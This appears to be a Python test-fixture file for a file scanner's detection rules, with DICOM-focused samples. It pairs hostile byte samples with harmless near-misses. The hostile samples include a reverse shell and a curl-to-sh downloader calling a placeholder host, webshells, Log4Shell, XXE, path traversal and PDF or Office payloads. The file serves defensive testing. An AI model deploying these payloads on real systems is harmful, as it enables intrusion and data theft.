"""For each rule of ours, something that it must find, and something like it that it must not."""

from __future__ import annotations

from struct import pack

DICM = b"DICM"
META = pack("<HH2sHL", 2, 0, b"UL", 4, 0)


def dicom(preamble: bytes, rest: bytes = b"") -> bytes:
    """A file with that preamble, and `rest` behind the prefix."""
    return preamble.ljust(128, b"\0")[:128] + DICM + rest


def pe_at(offset: int) -> bytes:
    """The beginning of a DOS header whose PE header is at `offset`."""
    return b"MZ".ljust(0x3C, b"\0") + pack("<I", offset)


def element(group: int, number: int, vr: bytes, value: bytes) -> bytes:
    """An element with explicit VR and a short length."""
    return pack("<HH2sH", group, number, vr, len(value)) + value


UID_META = element(2, 2, b"UI", b"1.2.840\0")
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}" + b"$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"

SAMPLES: dict[str, tuple[bytes, bytes]] = {
    "dicom_with_pe_preamble": (
        dicom(pe_at(0x90), META + b"\0" * 0).ljust(0x90, b"\0") + b"PE\0\0d\x86" + bytes(40),
        dicom(pe_at(0x90), META).ljust(0x90, b"\0") + b"NE\0\0" + bytes(40),
    ),
    "dicom_with_elf_preamble": (dicom(b"\x7fELF\2\1\1"), b"\x7fELF\2\1\1".ljust(200, b"\0")),
    "dicom_with_macho_preamble": (dicom(b"\xcf\xfa\xed\xfe\7\0\0\1"), dicom(b"\xcf\xfa\xed\0")),
    "dicom_with_script_preamble": (dicom(b"#!/bin/sh\nid\n"), dicom(b"# a note of a scanner")),
    "dicom_with_document_preamble": (dicom(b"%PDF-1.7"), dicom(b"II*\0\x08\0\0\0")),
    "eicar": (EICAR, b"EICAR-STANDARD"),
    "reverse_shell": (b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", b"bash -i"),
    "downloader": (b"curl -s http://192.0.2.1/a.sh | sh", b"curl -s http://192.0.2.1/a.json"),
    "encoded_powershell": (
        b"powershell -nop -w hidden -enc " + b"SQBFAFgAIAAoAE4A" * 4,
        b"powershell -File report.ps1",
    ),
    "coin_miner": (b'{"url": "stratum+tcp://192.0.2.1:3333"}', b'{"url": "tcp://192.0.2.1"}'),
    "packed_upx": (b"MZ" + bytes(200) + b"UPX0" + bytes(20) + b"UPX!", b"MZ" + bytes(200) + b"UPX0"),
    "ransom_note": (
        b"All your files have been encrypted. Send 2 BTC to get the decryption key.",
        b"All images were deleted from the cache. Retrieve them again.",
    ),
    "webshell_php": (b"<?php @eval($_POST['x']); ?>", b"<?php echo htmlspecialchars($_POST['x']); ?>"),
    "webshell_jsp": (
        b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
        b'<% out.print(request.getParameter("c")); %>',
    ),
    "webshell_aspx": (
        b'<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>',
        b'<%@ Page Language="C#"%><%= Request.Form["x"] %>',
    ),
    "webshell_known": (b"<?php /* b374k 3.2 */", b"b374k is the name of a shell"),
    "log4shell": (b"${jndi:ldap://192.0.2.1/a}", b"${java:version}"),
    "mirth_xstream": (
        b"<sorted-set><dynamic-proxy><handler class='java.beans.EventHandler'/></dynamic-proxy></sorted-set>",
        b"<sorted-set><string>a</string></sorted-set>",
    ),
    "orthanc_configuration": (b'{"RemoteAccessAllowed" : true}', b'{"RemoteAccessAllowed" : false}'),
    "orthanc_lua": (b"os.execute('id')", b"print('id')"),
    "spring_expression": (b"T(java.lang.Runtime).getRuntime()", b"getRuntime()"),
    "xml_external_entity": (
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE a [<!ENTITY x "text">]>',
    ),
    "xml_bomb": (
        b"".join(b'<!ENTITY l%d "&k;&k;&k;&k;&k;">' % number for number in range(4)),
        b'<!ENTITY l "&k;&k;&k;&k;&k;">',
    ),
    "dicom_meta_unknown_vr": (
        dicom(b"", element(2, 0, b"UL", bytes(4)) + element(2, 0x10, b"XX", b"1.2\0")),
        dicom(b"", element(2, 0, b"UL", bytes(4)) + element(2, 0x10, b"UI", b"1.2\0")),
    ),
    "dicom_rows_as_ul": (
        dicom(b"", UID_META + element(0x28, 0x10, b"UL", bytes(4))),
        dicom(b"", UID_META + element(0x28, 0x10, b"US", bytes(2))),
    ),
    "dicom_pmsct_rle1": (
        dicom(b"", UID_META + element(0x07A1, 0x1011, b"LO", b"PMSCT_RLE1")),
        dicom(b"", UID_META + element(0x07A1, 0x1011, b"LO", b"NONE")),
    ),
    "dicom_palette_without_table": (
        dicom(b"", UID_META + element(0x28, 4, b"CS", b"PALETTE COLOR ")),
        dicom(b"", UID_META + element(0x28, 4, b"CS", b"PALETTE COLOR ") + element(0x28, 0x1201, b"OW", b"\0\0")),
    ),
    "dicom_uid_traversal": (
        dicom(b"", UID_META + element(8, 0x18, b"UI", b"../../etc/cron.d/x")),
        dicom(b"", UID_META + element(8, 0x18, b"UI", b"1.2.840.10008")),
    ),
    "dicomdir_traversal": (
        element(4, 0x1500, b"CS", b"..\\..\\SECRET "),
        element(4, 0x1500, b"CS", b"DICOM\\IMAGE1"),
    ),
    "dicom_markup": (
        dicom(b"", UID_META + element(0x10, 0x10, b"PN", b"<script>alert(1)</script> ")),
        dicom(b"", UID_META + element(0x10, 0x10, b"PN", b"Doe^John <junior>")),
    ),
    "dicom_corpus_nmap": (b"1.2.3.4.5.99999.1764000000.123456", b"1.2.3.4.5.99999"),
    "pdf_active": (
        b"%PDF-1.7 1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
        b"%PDF-1.7 1 0 obj << /Type /Catalog /OpenAction [3 0 R /Fit] >>",
    ),
    "office_macro": (b"PK\3\4" + bytes(26) + b"word/vbaProject.bin", b"PK\3\4" + bytes(26) + b"word/document.xml"),
    "office_template_injection": (
        b'<Relationship Type="http://x/attachedTemplate" Target="http://192.0.2.1/t.dotm" TargetMode="External"/>',
        b'<Relationship Type="http://x/attachedTemplate" Target="Normal.dotm"/>',
    ),
    "rtf_object": (b"{\\rtf1{\\object\\objupdate{\\*\\objdata 0105}}}", b"{\\rtf1 text}"),
    "shortcut_command": (
        b"L\0\0\0\x01\x14\x02\0" + bytes(60) + "powershell.exe".encode("utf-16-le"),
        b"L\0\0\0\x01\x14\x02\0" + bytes(60) + "images".encode("utf-16-le"),
    ),
}
